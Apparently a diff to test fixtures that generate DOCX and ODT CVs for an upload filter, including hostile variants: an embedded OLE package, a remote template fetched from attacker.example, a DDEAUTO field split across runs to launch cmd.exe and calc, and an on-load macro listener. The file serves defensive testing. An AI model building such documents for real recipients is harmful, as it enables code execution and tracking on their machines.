@@ -6,10 +6,12 @@ import { writePdf } from '../../../server/seed/assets/pdfWriter';
  * PDFs with and without active content, and a PNG decompression bomb.
  */
 
-interface ZipInput {
+export interface ZipInput {
   name: string;
   content: Buffer | string;
   deflate?: boolean;
+  /** A compression method to write instead (the content then goes as given). */
+  method?: number;
 }
 
 /** A zip archive (stored or deflated entries, with their CRCs and the central directory). */
@@ -19,12 +21,13 @@ export function zip(entries: ZipInput[]): Buffer {
   let offset = 0;
   for (const entry of entries) {
     const data = Buffer.from(entry.content);
-    const body = entry.deflate ? deflateRawSync(data) : data;
+    const body = entry.deflate && entry.method === undefined ? deflateRawSync(data) : data;
+    const method = entry.method ?? (entry.deflate ? 8 : 0);
     const name = Buffer.from(entry.name, 'utf8');
     const local = Buffer.alloc(30);
     local.writeUInt32LE(0x04034b50, 0);
     local.writeUInt16LE(20, 4);
-    local.writeUInt16LE(entry.deflate ? 8 : 0, 8);
+    local.writeUInt16LE(method, 8);
     local.writeUInt32LE(crc32(data), 14);
     local.writeUInt32LE(body.length, 18);
     local.writeUInt32LE(data.length, 22);
@@ -33,7 +36,7 @@ export function zip(entries: ZipInput[]): Buffer {
     central.writeUInt32LE(0x02014b50, 0);
     central.writeUInt16LE(20, 4);
     central.writeUInt16LE(20, 6);
-    central.writeUInt16LE(entry.deflate ? 8 : 0, 10);
+    central.writeUInt16LE(method, 10);
     central.writeUInt32LE(crc32(data), 16);
     central.writeUInt32LE(body.length, 20);
     central.writeUInt32LE(data.length, 24);
@@ -493,3 +496,270 @@ export function pdfWithObjectStream(options: ObjectStreamPdf = {}): Buffer {
   );
   return Buffer.concat(chunks);
 }
+
+/*
+ * Word-processing documents as Word and LibreOffice write them, with the hostile parts the
+ * upload must refuse: embedded OLE objects, remote templates and other external
+ * relationships, DDE fields, ODF objects, event listeners and external links.
+ */
+
+const W = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';
+const R = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
+const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
+const PKG_REL = 'http://schemas.openxmlformats.org/package/2006/relationships';
+
+/** A relationship of word/document.xml (or of another part, through `relsOf`). */
+export interface DocxRelationship {
+  id: string;
+  type: string;
+  target: string;
+  external?: boolean;
+}
+
+export const relationships = (rels: DocxRelationship[]) =>
+  `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="${PKG_REL}">` +
+  rels
+    .map(
+      (r) =>
+        `<Relationship Id="${r.id}" Type="${REL}/${r.type}" Target="${r.target}"${r.external ? ' TargetMode="External"' : ''}/>`,
+    )
+    .join('') +
+  '</Relationships>';
+
+export interface DocxParts {
+  /** The body of word/document.xml (paragraphs). */
+  body?: string;
+  /** word/document.xml's relationships, after the styles and settings ones. */
+  rels?: DocxRelationship[];
+  /** word/settings.xml's content (inside w:settings) and its relationships. */
+  settings?: string;
+  settingsRels?: DocxRelationship[];
+  /** Any other entries, by name (binary or text). */
+  extra?: Record<string, Buffer | string>;
+  /** Replaces an entry's text after it is built (an encoding, a trick). */
+  rewrite?: (name: string, text: string) => Buffer | string;
+  /** Entries written as given (another compression method). */
+  raw?: ZipInput[];
+}
+
+/** A run of text. */
+export const run = (text: string) => `<w:r><w:t xml:space="preserve">${text}</w:t></w:r>`;
+export const paragraph = (...runs: string[]) => `<w:p>${runs.join('')}</w:p>`;
+/** A complex field: begin, its code in runs (instrText each), separate, result, end. */
+export const field = (codeRuns: string[], result = 'x') =>
+  `<w:r><w:fldChar w:fldCharType="begin"/></w:r>${codeRuns
+    .map((code) => `<w:r><w:instrText xml:space="preserve">${code}</w:instrText></w:r>`)
+    .join(
+      '',
+    )}<w:r><w:fldChar w:fldCharType="separate"/></w:r>${run(result)}<w:r><w:fldChar w:fldCharType="end"/></w:r>`;
+
+/** A DOCX as Word writes one: content types, package and document relationships, styles. */
+export function docxWith(parts: DocxParts = {}): Buffer {
+  const types =
+    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
+    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>' +
+    '<Default Extension="xml" ContentType="application/xml"/><Default Extension="png" ContentType="image/png"/>' +
+    '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.printerSettings"/>' +
+    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>' +
+    '<Override PartName="/word/styles.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.styles+xml"/>' +
+    '<Override PartName="/word/settings.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/>' +
+    '<Override PartName="/docProps/core.xml" ContentType="application/vnd.openxmlformats-package.core-properties+xml"/>' +
+    '</Types>';
+  const entries: Record<string, Buffer | string> = {
+    '[Content_Types].xml': types,
+    '_rels/.rels': relationships([
+      { id: 'rId1', type: 'officeDocument', target: 'word/document.xml' },
+    ]).replace(
+      '</Relationships>',
+      `<Relationship Id="rId2" Type="${PKG_REL}/metadata/core-properties" Target="docProps/core.xml"/></Relationships>`,
+    ),
+    'docProps/core.xml':
+      '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>Curriculum vitae</dc:title><dc:creator>Anne Peeters</dc:creator></cp:coreProperties>',
+    'word/document.xml': `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:document xmlns:w="${W}" xmlns:r="${R}" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:v="urn:schemas-microsoft-com:vml"><w:body>${
+      parts.body ?? paragraph(run('Anne Peeters, vendeuse'))
+    }<w:sectPr><w:pgSz w:w="11906" w:h="16838"/></w:sectPr></w:body></w:document>`,
+    'word/_rels/document.xml.rels': relationships([
+      { id: 'rId1', type: 'styles', target: 'styles.xml' },
+      { id: 'rId2', type: 'settings', target: 'settings.xml' },
+      ...(parts.rels ?? []),
+    ]),
+    'word/styles.xml': `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:styles xmlns:w="${W}"><w:style w:type="paragraph" w:default="1" w:styleId="Normal"><w:name w:val="Normal"/></w:style></w:styles>`,
+    'word/settings.xml': `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:settings xmlns:w="${W}" xmlns:r="${R}"><w:zoom w:percent="100"/>${parts.settings ?? ''}<w:rsids><w:rsidRoot w:val="00A1B2C3"/></w:rsids></w:settings>`,
+    ...(parts.settingsRels
+      ? { 'word/_rels/settings.xml.rels': relationships(parts.settingsRels) }
+      : {}),
+    ...parts.extra,
+  };
+  return zip([
+    ...Object.entries(entries).map(([name, content]) => ({
+      name,
+      content:
+        parts.rewrite && typeof content === 'string' ? parts.rewrite(name, content) : content,
+      deflate: true,
+    })),
+    ...(parts.raw ?? []),
+  ]);
+}
+
+/** A tiny PNG, as word/media/image1.png or an ODT's Pictures/. */
+export const tinyPng = () =>
+  Buffer.concat([
+    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
+    pngChunk('IHDR', Buffer.from([0, 0, 0, 1, 0, 0, 0, 1, 8, 0, 0, 0, 0])),
+    pngChunk('IDAT', deflateSync(Buffer.from([0, 0]))),
+    pngChunk('IEND', Buffer.alloc(0)),
+  ]);
+
+/** The OLE compound file signature: what an embedded object's .bin starts with. */
+export const oleBytes = () =>
+  Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(504)]);
+
+/**
+ * A CV as Word writes one, with everything a harmless document holds: web and mail links, a
+ * picture, page and hyperlink fields, a table of contents, custom XML reached with ../
+ */
+export function cleanDocx(): Buffer {
+  return docxWith({
+    body:
+      paragraph(run('Anne Peeters')) +
+      `<w:p><w:hyperlink r:id="rId10" w:history="1">${run('linkedin.com/in/anne')}</w:hyperlink></w:p>` +
+      `<w:p><w:hyperlink r:id="rId11">${run('anne@example.be')}</w:hyperlink><w:hyperlink w:anchor="experience">${run('Expérience')}</w:hyperlink></w:p>` +
+      paragraph(field([' TOC \\o "1-3" \\h \\z \\u '], 'Table des matières')) +
+      paragraph(field([' HYPERLINK "https://www.example.be/portfolio" '], 'portfolio')) +
+      paragraph(
+        field([' PAGE '], '1'),
+        '<w:fldSimple w:instr=" NUMPAGES "><w:r><w:t>2</w:t></w:r></w:fldSimple>',
+      ) +
+      `<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:nvPicPr><pic:cNvPr id="1" name="photo.png"><a:hlinkClick r:id="rId10"/></pic:cNvPr><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:embed="rId12"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`,
+    rels: [
+      {
+        id: 'rId10',
+        type: 'hyperlink',
+        target: 'https://www.linkedin.com/in/anne',
+        external: true,
+      },
+      { id: 'rId11', type: 'hyperlink', target: 'mailto:anne@example.be', external: true },
+      { id: 'rId12', type: 'image', target: 'media/image1.png' },
+      { id: 'rId13', type: 'customXml', target: '../customXml/item1.xml' },
+    ],
+    extra: {
+      'word/media/image1.png': tinyPng(),
+      'customXml/item1.xml':
+        '<?xml version="1.0"?><b:Sources xmlns:b="http://schemas.openxmlformats.org/officeDocument/2006/bibliography"/>',
+      'word/printerSettings/printerSettings1.bin': Buffer.alloc(64, 1),
+    },
+  });
+}
+
+const ODF = {
+  office: 'urn:oasis:names:tc:opendocument:xmlns:office:1.0',
+  text: 'urn:oasis:names:tc:opendocument:xmlns:text:1.0',
+  draw: 'urn:oasis:names:tc:opendocument:xmlns:drawing:1.0',
+  xlink: 'http://www.w3.org/1999/xlink',
+  script: 'urn:oasis:names:tc:opendocument:xmlns:script:1.0',
+  meta: 'urn:oasis:names:tc:opendocument:xmlns:meta:1.0',
+  svg: 'urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0',
+};
+const odfNamespaces = Object.entries(ODF)
+  .map(([prefix, uri]) => `xmlns:${prefix}="${uri}"`)
+  .join(' ');
+
+export interface OdtParts {
+  /** The office:text's content (paragraphs, frames). */
+  text?: string;
+  /** office:document-content's children before the body (scripts, event listeners). */
+  before?: string;
+  /** meta.xml's office:meta content. */
+  meta?: string;
+  extra?: Record<string, Buffer | string>;
+}
+
+/** An ODT as LibreOffice writes one: mimetype first and stored, content, meta, manifest. */
+export function odtWith(parts: OdtParts = {}): Buffer {
+  const extra = parts.extra ?? {};
+  const manifest =
+    '<?xml version="1.0" encoding="UTF-8"?>\n<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.3">' +
+    '<manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/>' +
+    ['content.xml', 'meta.xml', ...Object.keys(extra)]
+      .map(
+        (p) =>
+          `<manifest:file-entry manifest:full-path="${p}" manifest:media-type="${p.endsWith('.png') ? 'image/png' : 'text/xml'}"/>`,
+      )
+      .join('') +
+    '</manifest:manifest>';
+  return zip([
+    { name: 'mimetype', content: 'application/vnd.oasis.opendocument.text' },
+    {
+      name: 'content.xml',
+      content: `<?xml version="1.0" encoding="UTF-8"?>\n<office:document-content ${odfNamespaces} office:version="1.3">${
+        parts.before ?? '<office:scripts/>'
+      }<office:body><office:text>${parts.text ?? '<text:p>Jan Janssens, verkoper</text:p>'}</office:text></office:body></office:document-content>`,
+      deflate: true,
+    },
+    {
+      name: 'meta.xml',
+      content: `<?xml version="1.0" encoding="UTF-8"?>\n<office:document-meta ${odfNamespaces} office:version="1.3"><office:meta>${
+        parts.meta ?? '<meta:generator>LibreOffice/7.6</meta:generator>'
+      }</office:meta></office:document-meta>`,
+      deflate: true,
+    },
+    ...Object.entries(extra).map(([name, content]) => ({ name, content, deflate: true })),
+    { name: 'META-INF/manifest.xml', content: manifest, deflate: true },
+  ]);
+}
+
+/** A CV as LibreOffice writes one: web links, an internal picture, a link to a heading. */
+export function cleanOdt(): Buffer {
+  return odtWith({
+    text:
+      '<text:h text:outline-level="1">Jan Janssens</text:h>' +
+      '<text:p><text:a xlink:type="simple" xlink:href="https://www.linkedin.com/in/jan">LinkedIn</text:a> ' +
+      '<text:a xlink:href="mailto:jan@example.be">jan@example.be</text:a> <text:a xlink:href="#Ervaring">Ervaring</text:a></text:p>' +
+      '<text:p><draw:frame draw:name="Foto" svg:width="3cm" svg:height="3cm"><draw:image xlink:href="Pictures/foto.png" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame></text:p>',
+    extra: { 'Pictures/foto.png': tinyPng() },
+  });
+}
+
+/** The probe's finding: an embedded OLE object (an Excel sheet, a package, a program). */
+export const docxWithOleObject = () =>
+  docxWith({
+    body: paragraph(
+      '<w:r><w:object w:dxaOrig="1440" w:dyaOrig="1440"><v:shape id="_x0000_i1025" type="#_x0000_t75"><v:imagedata r:id="rId20" o:title=""/></v:shape><o:OLEObject Type="Embed" ProgID="Package" ShapeID="_x0000_i1025" DrawAspect="Icon" ObjectID="_1700000001" r:id="rId21"/></w:object></w:r>',
+    ),
+    rels: [
+      { id: 'rId20', type: 'image', target: 'media/image1.png' },
+      { id: 'rId21', type: 'oleObject', target: 'embeddings/oleObject1.bin' },
+    ],
+    extra: { 'word/media/image1.png': tinyPng(), 'word/embeddings/oleObject1.bin': oleBytes() },
+  });
+
+/** The probe's finding: a remote template, fetched by Word when the document opens. */
+export const docxWithRemoteTemplate = (target = 'https://attacker.example/cv.dotm') =>
+  docxWith({
+    settings: '<w:attachedTemplate r:id="rId1"/>',
+    settingsRels: [{ id: 'rId1', type: 'attachedTemplate', target, external: true }],
+  });
+
+/** A DDEAUTO field that starts a program, its keyword split across runs as droppers do. */
+export const docxWithDdeField = () =>
+  docxWith({
+    body: paragraph(
+      field(['DDE', 'AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'], 'Chargement…'),
+    ),
+  });
+
+/** An ODT with an embedded object (a sub-document in "Object 1/"). */
+export const odtWithObject = () =>
+  odtWith({
+    text: '<text:p><draw:frame draw:name="Objet1"><draw:object xlink:href="./Object 1" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame></text:p>',
+    extra: {
+      'Object 1/content.xml': `<?xml version="1.0" encoding="UTF-8"?>\n<office:document-content ${odfNamespaces}/>`,
+    },
+  });
+
+/** An ODT that runs a macro of the office suite's own library when it is opened. */
+export const odtWithEventListener = () =>
+  odtWith({
+    before:
+      '<office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:Tools.Debug.Main?language=Basic&amp;location=application" xlink:type="simple"/></office:event-listeners></office:scripts>',
+  });
